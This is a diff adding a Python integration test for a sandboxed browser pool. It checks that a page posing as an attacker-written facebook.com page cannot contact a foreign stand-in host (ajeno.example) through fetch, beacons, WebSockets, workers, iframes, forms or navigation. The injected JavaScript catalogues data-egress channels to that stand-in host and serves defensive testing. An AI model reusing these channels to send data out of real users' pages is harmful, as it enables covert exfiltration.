@@ -1,0 +1,140 @@
+"""The hosts that a page of a session may ask: those that its network needs, whatever the page tries."""
+
+import asyncio
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+
+import pytest
+from playwright.async_api import Page
+from structlog.testing import capture_logs
+
+from core.platforms.browser.pages.reach import EVERYTHING, Reach
+from core.platforms.browser.pool import BrowserPool
+from core.platforms.network import SandboxNetwork
+from sandbox.network import SandboxNetwork as LocalNetwork
+from sandbox.proxy import LocalProxy
+from tests.e2e.playing import eventually
+from tests.integration.platforms.listener import Listener, listening
+from tests.integration.platforms.world import World
+from tests.support.browser import chromium_path
+from tests.support.patience import HANG_MS
+
+pytestmark = pytest.mark.asyncio(loop_scope="package")
+HOME = "https://www.facebook.com/"
+BARE = f"{HOME}robots.txt"
+"""A page of the site without a policy of its own, as an attacker would have it."""
+FOREIGN = "ajeno.example"
+LEADS_AWAY = f"""<!DOCTYPE html><img src="https://{FOREIGN}/img-of-frame">
+<iframe src="https://{FOREIGN}/frame-of-frame"></iframe>
+<script>new WebSocket("wss://{FOREIGN}/ws-of-frame"); fetch("https://{FOREIGN}/fetch-of-frame", {{mode: "no-cors"}})
+</script>"""
+ATTEMPTS = """async (there) => {
+  const ends = (made) => new Promise((done) => { made(done); setTimeout(done, 3000); });
+  const put = (kind, given) => ends((done) => {
+    const node = Object.assign(document.createElement(kind), { onload: done, onerror: done, ...given });
+    document.body.append(node); });
+  const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
+  const socket = there.replace("https", "wss");
+  const worker = (code) => ends((done) => { new Worker(blob(`${code}`)).onmessage = done; });
+  navigator.sendBeacon(`${there}/beacon`, "x");
+  await Promise.all([
+    fetch(`${there}/fetch`, { mode: "no-cors" }).catch(() => 0),
+    fetch(`${there}/post`, { method: "POST", mode: "no-cors", body: "x" }).catch(() => 0),
+    fetch(`${there}/keepalive`, { mode: "no-cors", keepalive: true }).catch(() => 0),
+    ends((done) => { const w = new WebSocket(`${socket}/ws`); w.onopen = w.onerror = w.onclose = done; }),
+    ends((done) => { const e = new EventSource(`${there}/sse`); e.onerror = () => { e.close(); done(); }; }),
+    put("img", { src: `${there}/img` }), put("script", { src: `${there}/script` }),
+    put("iframe", { src: `${there}/iframe` }), put("link", { rel: "stylesheet", href: `${there}/css` }),
+    put("link", { rel: "prefetch", href: `${there}/prefetch` }), put("object", { data: `${there}/object` }),
+    put("iframe", { srcdoc: `<img src="${there}/img-of-srcdoc">` }), put("iframe", { src: "/robots.txt?marco" }),
+    worker(`fetch("${there}/fetch-of-worker", { mode: "no-cors" }).catch(() => 0).then(() => postMessage(1))`),
+    worker(`const w = new WebSocket("${socket}/ws-of-worker"); w.onopen = w.onclose = () => postMessage(1)`),
+  ]);
+}"""
+ALWAYS = {"/beacon", "/fetch", "/post", "/keepalive", "/ws", "/sse", "/img", "/script", "/iframe", "/css", "/prefetch"}
+ALWAYS |= {"/object", "/img-of-srcdoc", "/img-of-frame", "/frame-of-frame", "/ws-of-frame", "/fetch-of-frame"}
+ALWAYS |= {"/fetch-of-worker", "/ws-of-worker"}
+SHARED = "to => { new SharedWorker(URL.createObjectURL(new Blob([`fetch('${to}/shared', {mode: 'no-cors'})`]))) }"
+WAYS = {
+    "by its address": "to => { location.href = to }",
+    "by a form": """to => { const f = document.createElement("form"); f.action = to; f.method = "post";
+        document.body.append(f); f.submit(); }""",
+    "by a link": """to => { const a = document.createElement("a"); a.href = to;
+        document.body.append(a); a.click(); }""",
+}
+
+
+def with_foreign(world: World, listener: Listener) -> LocalNetwork:
+    """The local world, in which the foreign host exists too."""
+    known = world.sites.network
+    hosts = {**known.hosts, FOREIGN: ("127.0.0.1", listener.port)}
+    return LocalNetwork(hosts=hosts, ca_pem=known.ca_pem, spki_hashes=known.spki_hashes)
+
+
+@asynccontextmanager
+async def attacked(
+    world: World, listener: Listener, reach: Reach | None = None, proxy_url: str | None = None
+) -> AsyncIterator[Page]:
+    """A page of the site that an attacker wrote."""
+    network = SandboxNetwork.parse(with_foreign(world, listener).to_env())
+    ports = {address.rpartition(":")[2] for address in network.hosts.values()}
+    spaces = (f"--ip-address-space-overrides={','.join(f'127.0.0.1:{port}=public' for port in ports)}",)
+    async with (
+        BrowserPool(chromium_path(), network=network, reach=reach, extra_arguments=spaces) as pool,
+        pool.page(world.identity(world.account(), proxy_url=proxy_url)) as opened,
+    ):
+        await opened.page.goto(BARE)
+        world.sites.facebook.fault(path_prefix="/robots.txt", times=1, body=LEADS_AWAY)
+        yield opened.page
+
+
+@pytest.mark.parametrize("proxied", [False, True], ids=["straight", "through a proxy"])
+async def test_nothing_that_a_page_tries_asks_a_foreign_host(world: World, proxied: bool) -> None:
+    async with (
+        listening(world.sites.authority.server_context()) as listener,
+        LocalProxy(with_foreign(world, listener)) as proxy,
+        attacked(world, listener, proxy_url=proxy.url if proxied else None) as page,
+    ):
+        await page.evaluate(ATTEMPTS, f"https://{FOREIGN}")
+        for way in WAYS.values():
+            async with page.expect_event("requestfailed", timeout=HANG_MS) as refused:
+                await page.evaluate(way, f"https://{FOREIGN}/main")
+            assert "ERR_INTERNET_DISCONNECTED" in ((await refused.value).failure or "")
+            await page.wait_for_url("chrome-error://**")
+            await page.goto(BARE)
+        assert listener.asked == []
+        assert {connection.host for connection in proxy.connections if connection.host == FOREIGN} == set()
+
+
+async def test_what_belongs_to_no_page_of_ours_does_not_either(world: World) -> None:
+    async with listening(world.sites.authority.server_context()) as listener, attacked(world, listener) as page:
+        await page.evaluate(SHARED, f"https://{FOREIGN}")
+        window = await page.context.new_page()
+        await window.goto(BARE)
+        await window.evaluate(ATTEMPTS, f"https://{FOREIGN}")
+        assert listener.asked == []
+
+
+async def test_the_same_page_asks_all_of_it_where_the_operator_opened_the_list(world: World) -> None:
+    opened = (Reach((EVERYTHING,)), Reach((FOREIGN,)))
+    for reach in opened:
+        async with (
+            listening(world.sites.authority.server_context()) as listener,
+            attacked(world, listener, reach) as page,
+        ):
+            await page.evaluate(ATTEMPTS, f"https://{FOREIGN}")
+
+            async def everything(listener: Listener = listener) -> bool:
+                return listener.paths >= ALWAYS
+
+            await eventually(everything)
+
+
+async def test_each_host_is_logged_once(world: World) -> None:
+    async with listening(world.sites.authority.server_context()) as listener:
+        with capture_logs() as lines:
+            async with attacked(world, listener) as page:
+                await page.evaluate(ATTEMPTS, f"https://{FOREIGN}")
+                await asyncio.gather(*(page.evaluate(ATTEMPTS, "https://otro.example") for _ in range(2)))
+    told = [(line["host"], line["platform"]) for line in lines if line["log_level"] == "warning"]
+    assert sorted(told) == [(FOREIGN, "facebook"), ("otro.example", "facebook")]
